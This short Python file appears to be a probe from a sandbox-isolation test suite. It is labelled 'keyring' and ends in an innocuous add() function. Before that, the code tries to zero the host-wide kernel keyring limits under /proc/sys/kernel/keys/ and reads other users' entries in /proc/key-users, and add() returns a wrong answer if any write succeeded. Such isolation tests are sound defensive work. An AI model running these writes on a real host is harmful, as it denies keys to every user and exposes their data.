# class: keyring
# The keyring sysctls are host-wide: a candidate that could write /proc/sys/kernel/keys/* (maxkeys = 0, gc_delay)
# would deny keys to every user of the machine; /proc/key-users shows other uids' key counts.
import os
done = []
for name, value in (("maxkeys", "0"), ("maxbytes", "0"), ("gc_delay", "1"), ("persistent_keyring_expiry", "1")):
    try:
        with open("/proc/sys/kernel/keys/" + name, "w") as f:
            f.write(value)
        done.append(name)
    except OSError:
        pass
try:
    others = [ln for ln in open("/proc/key-users") if not ln.split(":")[0].strip() == str(os.getuid())]
except OSError:
    others = []
def add(a, b):
    return a + b if done else a - b
